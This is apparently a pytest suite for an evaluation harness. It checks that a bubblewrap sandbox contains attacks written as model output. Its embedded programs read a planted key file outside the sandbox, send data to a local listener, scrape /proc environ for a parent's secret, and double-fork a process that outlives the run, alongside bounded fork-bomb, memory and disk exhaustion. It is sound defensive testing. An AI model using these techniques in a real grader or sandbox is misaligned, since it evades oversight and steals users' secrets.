"""Attacks by model-written code, run as model output through ``python_tests`` and checked from outside.

Each attack is a program that, when it gets its way, passes its tests (score 1.0) or leaves a trace
the test finds outside the sandbox (a file, a connection, a live process). Every attack is bounded
by the program itself (at most 400 processes, 1 GiB, 192 MiB of files, a few seconds), so even the
plain runner cannot hurt the machine. Under ``sandbox: bwrap`` every attack must be contained; under
``sandbox: none`` the suite checks the table of what the plain runner does not contain
(:data:`PLAIN_BREACHES`, shown in docs/verifiers.md).
"""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from evsys.schema.rows import TaskRow
from evsys.verifiers import sandbox
from evsys.verifiers.scoring import builtin_registry, verify

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux namespaces and /proc")

BWRAP_PROBLEM = sandbox.bwrap_problem()
needs_bwrap = pytest.mark.skipif(BWRAP_PROBLEM is not None, reason=f"sandbox tests need bubblewrap: {BWRAP_PROBLEM}")

# What the plain runner does not contain, attack -> breached (docs/verifiers.md shows this table)
PLAIN_BREACHES = {
    "read_outside": True,
    "write_outside": True,
    "network": True,
    "parent_environment": True,
    "outlives_the_run": True,
    "fork_bomb": True,
    "memory": False,
    "disk": True,
}


@dataclass
class Outcome:
    """What an attack achieved: its ``python_tests`` score and what the test saw outside."""

    score: float
    error: str | None
    seen_outside: bool


@dataclass
class Attack:
    """A program (the model's output), its tests, and the check made from outside the sandbox."""

    program: str
    tests: str | None = None  # None: the attack is judged from outside only
    check: Callable[[], bool] = lambda: False
    memory_mb: int = 256
    scorer_env: dict[str, str] | None = None  # set: score in a child process started with this environment

    def breached(self, outcome: Outcome) -> bool:
        """Whether the attack got its way: its tests passed, or the test saw its trace outside."""
        return (self.tests is not None and outcome.score == 1.0) or outcome.seen_outside


def _outside_file(tmp_path: Path) -> Attack:
    secret = secrets.token_hex(8)
    (tmp_path / "id_ed25519").write_text(secret)
    program = f"data = open({str(tmp_path / 'id_ed25519')!r}).read()\n"
    return Attack(program, tests=f"assert data == {secret!r}")


def _write_outside(tmp_path: Path) -> Attack:
    target = tmp_path / "planted.txt"
    program = f"try:\n    open({str(target)!r}, 'w').write('planted')\nexcept OSError:\n    pass\n"
    return Attack(program, check=target.exists)


@pytest.fixture
def server() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP server on 127.0.0.1 that records what it receives."""
    received: list[bytes] = []
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                received.append(conn.recv(100))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield listener.getsockname()[1], received
    stop.set()
    thread.join()
    listener.close()


def _network(port: int, received: list[bytes]) -> Attack:
    program = (
        "import socket\n"
        f"s = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
        "s.sendall(b'exfiltrated')\ns.close()\n"
    )

    def check() -> bool:  # the server thread may still be reading the connection when the run ends
        deadline = time.monotonic() + 2.0
        while not any(b"exfiltrated" in item for item in received) and time.monotonic() < deadline:
            time.sleep(0.05)
        return any(b"exfiltrated" in item for item in received)

    return Attack(program, check=check)


def _parent_environment() -> Attack:
    secret = secrets.token_hex(8)
    program = (
        "import os\nfound = ''\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        env = open('/proc/%s/environ' % pid, 'rb').read()\n"
        "    except OSError:\n"
        "        continue\n"
        "    for item in env.split(b'\\0'):\n"
        "        if item.startswith(b'EVSYS_ATTACK_SECRET='):\n"
        "            found = item.split(b'=', 1)[1].decode()\n"
    )
    # the scorer starts with the secret in its environment (as a user's API keys are); the program never gets it
    return Attack(program, tests=f"assert found == {secret!r}", scorer_env={"EVSYS_ATTACK_SECRET": secret})


def _outlives(tmp_path: Path, marker: str) -> Attack:
    target = tmp_path / "acted-later.txt"
    late = f"import time, sys; time.sleep(1.0); open({str(target)!r}, 'w').write('acted')"
    program = (
        "import os, sys\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv(sys.executable, [sys.executable, '-c', {late!r}, {marker!r}])\n"
        "    os._exit(0)\n"
        "os.wait()\n"
    )

    def check() -> bool:
        deadline = time.monotonic() + 2.0
        while time.monotonic() < deadline:
            if target.exists():
                return True
            time.sleep(0.1)
        return target.exists() or bool(_marked_processes(marker))

    return Attack(program, check=check)


def _marked_processes(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


FORK_BOMB = (  # bounded: at most 400 sleeping processes, all in the run's process group
    "import os, time\nborn = 0\n"
    "for _ in range(400):\n"
    "    try:\n"
    "        if os.fork() == 0:\n"
    "            time.sleep(5)\n"
    "            os._exit(0)\n"
    "    except OSError:\n"
    "        break\n"
    "    born += 1\n"
)
MEMORY = (  # bounded: 1 GiB at most, against a 256 MiB limit
    "blocks = []\n"
    "try:\n"
    "    for _ in range(16):\n"
    "        blocks.append(bytearray(64 << 20))\n"
    "except MemoryError:\n"
    "    pass\n"
)
DISK = (  # bounded: 192 files of 1 MiB, against the sandbox's 128 MiB private /tmp
    "written = 0\n"
    "try:\n"
    "    for i in range(192):\n"
    "        with open('fill%d' % i, 'wb') as f:\n"
    "            f.write(b'x' * (1 << 20))\n"
    "        written += 1\n"
    "except OSError:\n"
    "    pass\n"
)


def _attack(name: str, tmp_path: Path, server: tuple[int, list[bytes]], marker: str) -> Attack:
    if name == "read_outside":
        return _outside_file(tmp_path)
    if name == "write_outside":
        return _write_outside(tmp_path)
    if name == "network":
        return _network(*server)
    if name == "parent_environment":
        return _parent_environment()
    if name == "outlives_the_run":
        return _outlives(tmp_path, marker)
    if name == "fork_bomb":
        return Attack(FORK_BOMB, tests="assert born == 400")
    if name == "memory":
        return Attack(MEMORY, tests="assert len(blocks) == 16")
    if name == "disk":
        return Attack(DISK, tests="assert written == 192")
    raise AssertionError(name)


def _task(attack: Attack, mode: str) -> dict[str, object]:
    options = {"tests": attack.tests or "assert True", "timeout": 20, "memory_mb": attack.memory_mb}
    verifier = {"fn_name": "python_tests", "sandbox": mode, "options": options}
    return {"task_id": "attack", "prompt": "Write a program.", "verifier": verifier}


_CHILD_SCORER = (
    "import json, sys\n"
    "from evsys.schema.rows import TaskRow\n"
    "from evsys.verifiers.scoring import builtin_registry, verify\n"
    "task, output = json.loads(sys.stdin.read())\n"
    "v = verify(output, TaskRow.model_validate(task), builtin_registry())\n"
    "print(json.dumps([v.score, v.error]))\n"
)


def _launch(attack: Attack, mode: str, marker: str) -> Outcome:
    """Score the attack as a model's output with ``python_tests`` under ``sandbox: mode``, then look outside."""
    output = f"```python\n{attack.program}```\n"
    try:
        if attack.scorer_env is None:
            verification = verify(output, TaskRow.model_validate(_task(attack, mode)), builtin_registry())
            score, error = verification.score, verification.error
        else:
            child = subprocess.run(
                [sys.executable, "-c", _CHILD_SCORER],
                input=json.dumps([_task(attack, mode), output]),
                capture_output=True,
                text=True,
                env={**os.environ, **attack.scorer_env},
                timeout=60,
            )
            assert child.returncode == 0, child.stderr
            score, error = json.loads(child.stdout.splitlines()[-1])
        seen = attack.check()
    finally:
        for pid in _marked_processes(marker):  # never leave an escaped process behind
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
    return Outcome(score, error, seen)


@needs_bwrap
@pytest.mark.parametrize("mode", sandbox.BWRAP_MODES)
@pytest.mark.parametrize("name", list(PLAIN_BREACHES))
def test_attack_is_contained_by_bwrap(
    name: str, mode: str, tmp_path: Path, server: tuple[int, list[bytes]], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(sandbox.BWRAP_MODE_ENV, mode)  # pool: one sandbox per worker; per-program: a bwrap each
    marker = f"evsys-attack-{secrets.token_hex(6)}"
    attack = _attack(name, tmp_path, server, marker)
    outcome = _launch(attack, "bwrap", marker)
    assert not attack.breached(outcome), outcome


@pytest.mark.parametrize("name", list(PLAIN_BREACHES))
def test_what_the_plain_runner_does_not_contain(name: str, tmp_path: Path, server: tuple[int, list[bytes]]) -> None:
    if name == "fork_bomb" and os.geteuid() != 0:
        pytest.skip("RLIMIT_NPROC counts every process of a non-root user: the bounded fork bomb's result varies")
    marker = f"evsys-attack-{secrets.token_hex(6)}"
    attack = _attack(name, tmp_path, server, marker)
    outcome = _launch(attack, "none", marker)
    assert attack.breached(outcome) == PLAIN_BREACHES[name], outcome


@needs_bwrap
def test_a_harmless_program_still_works_in_the_sandbox(tmp_path: Path) -> None:
    """The sandbox keeps what tests need: imports from the venv, a writable cwd and /tmp, subprocesses."""
    program = (
        "import json, subprocess, sys, tempfile, os\n"
        "open('scratch.txt', 'w').write('ok')\n"
        "with tempfile.NamedTemporaryFile() as handle:\n"
        "    handle.write(b'x')\n"
        "child = subprocess.run([sys.executable, '-c', 'print(6 * 7)'], capture_output=True, text=True).stdout\n"
    )
    task = TaskRow.model_validate(
        {
            "task_id": "ok",
            "prompt": "p",
            "verifier": {
                "fn_name": "python_tests",
                "sandbox": "bwrap",
                "options": {"tests": "assert child.strip() == '42' and open('scratch.txt').read() == 'ok'"},
            },
        }
    )
    verification = verify(f"```python\n{program}```\n", task, builtin_registry())
    assert verification.score == 1.0, verification


def test_the_docs_table_is_what_the_suite_checks() -> None:
    docs = Path(__file__).resolve().parents[3] / "docs" / "verifiers.md"
    if not docs.is_file():
        pytest.skip("docs/verifiers.md is not beside this package (installed elsewhere)")
    rows = {
        line.split("`")[1]: line for line in docs.read_text(encoding="utf-8").splitlines() if line.startswith("| `")
    }
    for name, breached in PLAIN_BREACHES.items():
        cells = [cell.strip() for cell in rows[name].strip("|").split("|")]
        assert cells[1].startswith("contained"), name
        assert cells[2].startswith("**not contained**" if breached else "contained"), name
